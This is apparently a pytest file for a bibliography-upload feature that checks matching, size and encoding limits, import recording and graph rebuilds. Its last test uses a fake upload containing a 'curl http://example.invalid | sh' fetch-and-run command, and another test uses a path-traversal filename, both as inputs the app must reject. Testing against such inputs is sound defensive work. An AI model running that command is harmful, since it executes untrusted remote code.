"""Upload to My library (issue 22, point 8): the app reads a file with the CLI's reader and limits,
says what the graph already has and what is new, and records it as `phenomena import` does.

A real LadybugDB fixture store, real files; the browser flow is tests/e2e/test_browser_library_upload.py.
"""
from __future__ import annotations

import pytest

from app.pipeline.sources import load_manifest
from app.settings import Settings
from app.web import services
from graph.errors import SourceError
from graph.store.embedded.store import EmbeddedStore
from tests.support.fixture_graph import write_fixture_store

BIB = """@article{power2022,
  title = {Grokking: Generalization Beyond Overfitting on Small Algorithmic Datasets},
  author = {Power, Alethea and Burda, Yuri},
  year = {2022},
  eprint = {2201.02177},
  archivePrefix = {arXiv}
}
@article{new2025,
  title = {A Paper This Graph Has Never Seen},
  author = {Nobody, Some},
  year = {2025}
}
"""


@pytest.fixture(scope="module")
def graph(tmp_path_factory) -> services.PaperGraph:
    path = write_fixture_store(tmp_path_factory.mktemp("upload") / "atlas.lbug")
    with EmbeddedStore(path) as store:
        return services.load_paper_graph(store)


def test_upload_preview_says_what_matched_and_what_is_new(graph, tmp_path):
    preview, path = services.preview_upload(graph, "../../my library.bib", BIB.encode(), tmp_path)
    assert preview.kind == "bibtex" and path.parent == tmp_path and path.name == "my-library.bib"
    assert [r["id"] for r in preview.matched] == ["arxiv:2201.02177"]
    assert [r["title"] for r in preview.new] == ["A Paper This Graph Has Never Seen"]
    ris = "TY  - JOUR\nTI  - Deep Double Descent: Where Bigger Models and More Data Hurt\nPY  - 2019\nER  - \n"
    preview, _ = services.preview_upload(graph, "zotero.ris", ris.encode(), tmp_path)
    assert preview.kind == "ris" and [r["id"] for r in preview.matched] == ["arxiv:1912.02292"]  # by title


def test_upload_keeps_the_clis_limits(graph, tmp_path):
    with pytest.raises(SourceError, match="more than the 20 MB"):
        services.preview_upload(graph, "huge.bib", b" " * (services.MAX_IMPORT_BYTES + 1), tmp_path)
    with pytest.raises(SourceError, match="UTF-8"):
        services.preview_upload(graph, "latin1.bib", "@article{a, title={Caf\xe9}}".encode("latin-1"), tmp_path)


def test_recorded_upload_is_an_import_the_next_build_replays(graph, tmp_path):
    home = tmp_path / "home"
    _, path = services.preview_upload(graph, "lib.bib", BIB.encode(), tmp_path)
    assert services.record_upload(home, path) == ("lib.bib", True)
    assert services.record_upload(home, path) == ("lib.bib", False)  # the same file twice: recorded once
    assert [i.name for i in load_manifest(home).imports] == ["lib.bib"]
    assert (home / "imports" / "lib.bib").read_text(encoding="utf-8") == BIB


def test_an_upload_is_imported_and_the_graph_rebuilt_with_it(graph, tmp_path):
    """The app's "Add to my library": `phenomena import --offline` through run_import (the bundled catalog
    snapshot, no network), the new paper in the rebuilt graph, found again by the preview's rows."""
    home = tmp_path / "home"
    preview, path = services.preview_upload(graph, "my library.bib", BIB.encode(), tmp_path)
    outcome = services.import_upload(Settings(home=home), path, offline=True)
    assert outcome.counts["Paper"] > 100
    assert [i.name for i in load_manifest(home).imports] == ["my-library.bib"]
    with EmbeddedStore(home / "atlas.lbug") as store:
        rebuilt = services.load_paper_graph(store)
    found = services.find_uploaded(rebuilt, preview.new + preview.matched)
    assert [r["title"] for r in found] == ["A Paper This Graph Has Never Seen",
                                           "Grokking: Generalization Beyond Overfitting on Small Algorithmic Datasets"]
    assert all(rebuilt.papers[r["id"]].in_library for r in found)


def test_a_refused_upload_leaves_nothing(graph, tmp_path):
    with pytest.raises(SourceError, match="is not a bibliography"):
        services.preview_upload(graph, "notes.bib", b"#!/bin/sh\ncurl http://example.invalid | sh\n", tmp_path)
    assert list(tmp_path.iterdir()) == []
